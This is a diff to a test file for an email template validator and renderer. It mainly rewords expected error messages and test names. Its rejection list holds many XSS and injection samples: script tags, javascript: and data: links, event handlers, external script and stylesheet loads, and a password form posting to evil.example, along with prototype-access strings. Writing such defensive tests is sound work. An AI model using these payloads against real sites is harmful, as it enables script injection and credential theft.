@@ -83,8 +83,8 @@ const REFUSED: [string, string, RegExp][] = [
   ['a count of a loop that is over', '{{#each changes}}x{{else}}{{@index}}{{/each}}', /There is no @index/],
   ['a count from around', '{{#each changes}}{{@../index}}{{/each}}', /There is no @..\/index/],
   ['a prototype of a loop', '{{#each changes}}{{#if @constructor}}x{{/if}}{{/each}}', /There is no @constructor/],
-  ['a text in braces', '{{"hello"}}', /stands without braces/],
-  ['a number in braces', '{{12}}', /stands without braces/],
+  ['a text in braces', '{{"hello"}}', /written in braces/],
+  ['a number in braces', '{{12}}', /written in braces/],
   ['a variable called like a helper', '{{#> note date="x"}}{{date}}{{/note}}', /{{date}} is a call/],
   ['a variable called like a block', '{{#> note each="x"}}{{each}}{{/note}}', /{{each}} is a call/],
   ['a decorator', '{{#*inline "a"}}{{> a}}{{/inline}}{{> a}}', /cannot be defined/],
@@ -100,11 +100,7 @@ const REFUSED: [string, string, RegExp][] = [
     '{{#> note trackingUrl="javascript:alert(1)"}}<a href="{{trackingUrl}}">x</a>{{/note}}',
     /A link is/,
   ],
-  [
-    'another host, given to what is around it',
-    '{{#> note path="@evil.example"}}{{url path}}{{/note}}',
-    /takes a place/,
-  ],
+  ['another host, given to what is around it', '{{#> note path="@evil.example"}}{{url path}}{{/note}}', /takes a page/],
   [
     'a link that runs, given within another part',
     '{{#> note trackingUrl="javascript:alert(1)"}}{{#> paragraph}}<a href="{{trackingUrl}}">x</a>{{/paragraph}}{{/note}}',
@@ -112,13 +108,13 @@ const REFUSED: [string, string, RegExp][] = [
   ],
   ['cents as a date, given to what is around it', '{{#> note sum=quote.total}}{{date sum}}{{/note}}', /takes a date/],
   ['up, past what is given', '{{#with quote}}{{#> note a="x"}}{{../firstName}}{{/note}}{{/with}}', /not a variable/],
-  ['a page of the prototype', '<a href="{{page "constructor"}}">x</a>', /page that there is/],
-  ['another host by an address', '<a href="{{url "@evil.example"}}">x</a>', /takes a place in the portal/],
-  ['a script', '<script>alert(1)</script>', /<script> cannot stand/],
-  ['a script, broken', '<scr<script>ipt>alert(1)</script>', /<scr> cannot stand/],
-  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /cannot stand/],
+  ['a page of the prototype', '<a href="{{page "constructor"}}">x</a>', /name of an existing page/],
+  ['another host by an address', '<a href="{{url "@evil.example"}}">x</a>', /takes a page of the portal/],
+  ['a script', '<script>alert(1)</script>', /<script> is not allowed/],
+  ['a script, broken', '<scr<script>ipt>alert(1)</script>', /<scr> is not allowed/],
+  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /is not allowed/],
   ['a script by attribute', '<p onclick="alert(1)">x</p>', /attribute onclick/],
-  ['an attribute by a slash', '<p/onclick=alert(1)>x</p>', /not written out/],
+  ['an attribute by a slash', '<p/onclick=alert(1)>x</p>', /is not complete/],
   ['a link that runs', '<a href="javascript:alert(1)">x</a>', /A link is/],
   ['a link that runs, in letters', '<a href="&#106;avascript:alert(1)">x</a>', /A link is/],
   ['a link that runs, with a tab', '<a href="java\tscript:alert(1)">x</a>', /A link is/],
@@ -126,28 +122,28 @@ const REFUSED: [string, string, RegExp][] = [
   ['a link of data', '<a href="{{firstName}}">x</a>', /A link is/],
   ['a link that holds data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', /A link is/],
   ['vbscript', '<a href="vbscript:msgbox(1)">x</a>', /A link is/],
-  ['CSS', '<style>@import url(//evil.example)</style>', /<style> cannot stand/],
+  ['CSS', '<style>@import url(//evil.example)</style>', /<style> is not allowed/],
   ['CSS by attribute', '<p style="background:url(//evil.example)">x</p>', /attribute style/],
   ['a class', '<p class="no-text">x</p>', /attribute class/],
-  ['meta', '<meta http-equiv="refresh" content="0;url=//evil.example">', /<meta> cannot stand/],
-  ['base', '<base href="//evil.example/">', /<base> cannot stand/],
-  ['link', '<link rel="stylesheet" href="//evil.example">', /<link> cannot stand/],
-  ['SVG', '<svg onload="alert(1)"></svg>', /<svg> cannot stand/],
-  ['SVG with a link', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', /<svg> cannot stand/],
-  ['MathML', '<math><mtext></mtext></math>', /<math> cannot stand/],
-  ['a picture from outside', '<img src="https://evil.example/pixel.gif">', /<img> cannot stand/],
-  ['a picture that fails', '<img src=x onerror=alert(1)>', /<img> cannot stand/],
-  ['a form', '<form action="//evil.example"><input name="password"></form>', /<form> cannot stand/],
-  ['a frame', '<iframe srcdoc="<script>x</script>"></iframe>', /<iframe> cannot stand/],
-  ['an object', '<object data="x"></object>', /<object> cannot stand/],
-  ['a comment', '<!--[if mso]><script>x</script><![endif]-->', /Write &lt;|cannot stand/],
+  ['meta', '<meta http-equiv="refresh" content="0;url=//evil.example">', /<meta> is not allowed/],
+  ['base', '<base href="//evil.example/">', /<base> is not allowed/],
+  ['link', '<link rel="stylesheet" href="//evil.example">', /<link> is not allowed/],
+  ['SVG', '<svg onload="alert(1)"></svg>', /<svg> is not allowed/],
+  ['SVG with a link', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', /<svg> is not allowed/],
+  ['MathML', '<math><mtext></mtext></math>', /<math> is not allowed/],
+  ['a picture from outside', '<img src="https://evil.example/pixel.gif">', /<img> is not allowed/],
+  ['a picture that fails', '<img src=x onerror=alert(1)>', /<img> is not allowed/],
+  ['a form', '<form action="//evil.example"><input name="password"></form>', /<form> is not allowed/],
+  ['a frame', '<iframe srcdoc="<script>x</script>"></iframe>', /<iframe> is not allowed/],
+  ['an object', '<object data="x"></object>', /<object> is not allowed/],
+  ['a comment', '<!--[if mso]><script>x</script><![endif]-->', /Write &lt;|is not allowed/],
   ['CDATA', '<![CDATA[<script>x</script>]]>', /Write &lt;/],
   ['a tag of data', '<{{firstName}}>x', /Write &lt;/],
   ['a tag of halves', '<{{#if isOpen}}script{{/if}}>x', /Write &lt;/],
-  ['an attribute of data', '<p {{firstName}}>x</p>', /not written out/],
-  ['an attribute of a condition', '<p{{#if isOpen}} onclick="x"{{/if}}>x</p>', /not written out/],
-  ['an attribute behind a comment', '<p {{!-- x --}}onclick="x">x</p>', /not written out/],
-  ['a quote that does not end', '<a href="https://a.example>x</a>', /not written out/],
+  ['an attribute of data', '<p {{firstName}}>x</p>', /is not complete/],
+  ['an attribute of a condition', '<p{{#if isOpen}} onclick="x"{{/if}}>x</p>', /is not complete/],
+  ['an attribute behind a comment', '<p {{!-- x --}}onclick="x">x</p>', /is not complete/],
+  ['a quote that does not end', '<a href="https://a.example>x</a>', /is not complete/],
   ['a tag that is not closed', '<p>x', /<p> is not closed/],
   ['a tag closed by a condition', '<p>{{#if isOpen}}</p>{{/if}}', /closes nothing/],
   ['a tag that begins in the next', '<', /Write &lt;/],
@@ -177,7 +173,7 @@ describe('a template', () => {
     expect(found.map(({ message }) => message)).toContainEqual(expect.stringMatching(why));
   });
 
-  it('is taken with what mails are made of', async () => {
+  it('with all allowed elements is accepted', async () => {
     const body = [
       '{{!-- why it is so --}}',
       '{{> title text="Your quote"}}',
@@ -204,7 +200,7 @@ describe('a template', () => {
     ['tags that stay open', '<p>\n'.repeat(10_000)],
     ['variables that there are not', '{{firstNme}}\n'.repeat(2_000)],
     ['parts without their values', '{{> order-facts}}'.repeat(2_000)],
-  ])('is read in time, with at most 50 problems: %s', (_name, body) => {
+  ])('is checked in time, with at most 50 problems: %s', (_name, body) => {
     const { user } = process.cpuUsage();
     expect(problems(body)).toHaveLength(50);
     // CPU time, in milliseconds: it used to grow with the square of the length and took 2 to 4 seconds; now at most a
@@ -212,7 +208,7 @@ describe('a template', () => {
     expect((process.cpuUsage().user - user) / 1_000).toBeLessThan(1_500);
   });
 
-  it('says where it is wrong, and what may have been meant', () => {
+  it('has its problems reported with line, column and a suggestion', () => {
     expect(problems('<p>\n  {{partnerNme}}\n</p>\n<p\nonclick="x">')).toEqual([
       {
         part: 'body',
@@ -227,7 +223,7 @@ describe('a template', () => {
       { part: 'body', line: 2, column: 1, message: '{{#if}} is not closed' },
     ]);
     expect(problems('{{quote.nmber}}', '{{> title text="x"}}').map(({ part, message }) => [part, message])).toEqual([
-      ['subject', 'Parts stand in the body alone'],
+      ['subject', 'Parts can be used only in the body'],
       ['body', 'quote.nmber is not a variable of this mail. Did you mean quote.number?'],
     ]);
   });
@@ -245,21 +241,21 @@ describe('a template', () => {
     ['{{#each changes}}{{@indx}}{{/each}}', 'There is no @indx here. Did you mean @index?'],
     ['{{quote.x}}', 'quote.x is not a variable of this mail.'],
     ['{{mony quote.total "EUR"}}', 'There is no {{mony}}. Did you mean money?'],
-    ['<a href="{{page "logn"}}">in</a>', '{{page}} takes the name of a page that there is. Did you mean login?'],
-  ])('suggests for the part that is wrong: %s', (body, message) =>
+    ['<a href="{{page "logn"}}">in</a>', '{{page}} takes the name of an existing page. Did you mean login?'],
+  ])('gets a correction for the wrong part: %s', (body, message) =>
     expect(problems(body).map((problem) => problem.message)).toEqual([message]),
   );
 });
 
-describe('the thread that renders', () => {
-  it('writes what data hold as text, whatever they hold', async () => {
+describe('the rendering thread', () => {
+  it('escapes data', async () => {
     const evil = '"><script>alert(1)</script>{{constructor}}';
     const { html } = await render('<p>{{firstName}}</p>{{> quoted text=firstName}}', { firstName: evil });
     expect(html).not.toContain('<script');
     expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;{{constructor}}');
   });
 
-  it('lets nobody at a prototype, even unchecked', async () => {
+  it('gives no access to prototypes, even unchecked', async () => {
     for (const body of [
       '{{firstName.constructor}}',
       '{{#with firstName}}{{constructor.constructor}}{{/with}}',
@@ -283,7 +279,7 @@ describe('the thread that renders', () => {
       '{{#each r}}{{#each ../r}}{{names names}}{{/each}}{{/each}}',
       /0.2 s|memory|500 kB|string length/,
     ],
-  ])('ends what takes %s, and goes on', async (_name, body, why) => {
+  ])('stops what takes %s, and continues', async (_name, body, why) => {
     const row = { x: 'x', big: 'y'.repeat(10_000), names: ['n'.repeat(1_000)], r: [] as unknown[] };
     const r = Array.from({ length: 100 }, () => row);
     row.r = Array.from({ length: 100 }, () => ({ ...row, r: Array.from({ length: 60 }, () => ({ x: 'x' })) }));
@@ -291,7 +287,7 @@ describe('the thread that renders', () => {
     expect((await render('<p>{{firstName}}</p>')).html).toContain('<p>Anna</p>');
   });
 
-  it('renders several at once, each its own', async () => {
+  it('renders several templates concurrently', async () => {
     const names = ['Anna', 'Tom', 'Iris'];
     const mails = await Promise.all(names.map((firstName) => render('{{firstName}}', { firstName })));
     names.forEach((name, at) => expect(mails[at]!.text).toContain(name));
